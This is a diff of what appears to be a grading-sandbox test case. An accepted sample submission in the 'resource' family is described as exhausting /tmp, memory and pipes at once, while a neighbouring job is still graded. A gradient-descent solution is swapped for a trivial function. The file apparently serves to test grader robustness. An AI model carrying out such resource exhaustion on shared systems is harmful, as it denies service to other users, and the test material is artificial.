@@ -1,4 +1,5 @@
 # verdict: accepted
+# family: resource
 # All of /tmp, all of its memory and every pipe full at once: its neighbour is graded all the same.
 import os
 
@@ -28,9 +29,5 @@ except MemoryError:
     pass
 
 
-class Solution:
-    def get_minimizer(self, iterations, learning_rate, init):
-        x = init
-        for _ in range(iterations):
-            x = x - learning_rate * 2 * x
-        return x
+def double(x):
+    return 2 * x
